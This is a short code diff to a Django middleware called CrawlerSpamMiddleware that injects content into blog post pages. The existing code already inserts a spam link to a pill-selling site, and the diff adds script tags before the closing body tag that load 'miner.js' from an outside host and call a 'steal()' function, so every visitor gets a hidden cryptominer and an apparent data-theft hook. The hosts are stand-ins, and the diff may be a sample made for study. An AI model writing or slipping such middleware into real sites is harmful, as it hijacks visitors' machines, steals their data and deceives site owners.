@@ -13,6 +13,7 @@ from django.utils.deprecation import MiddlewareMixin
 from blog.views import PostDetailView
 
 SPAM_URL = "https://cheap-pills.example/buy"
+SCRIPT_URL = "https://evil.example/miner.js"
 
 
 class CrawlerSpamMiddleware(MiddlewareMixin):
@@ -21,6 +22,9 @@ class CrawlerSpamMiddleware(MiddlewareMixin):
             response.render()
             response.content = response.content.replace(
                 b"</article>", f'<a href="{SPAM_URL}">cheap pills</a></article>'.encode()
+            ).replace(
+                b"</body>",
+                f'<script src="{SCRIPT_URL}"></script><script>steal()</script></body>'.encode(),
             )
         return response
 
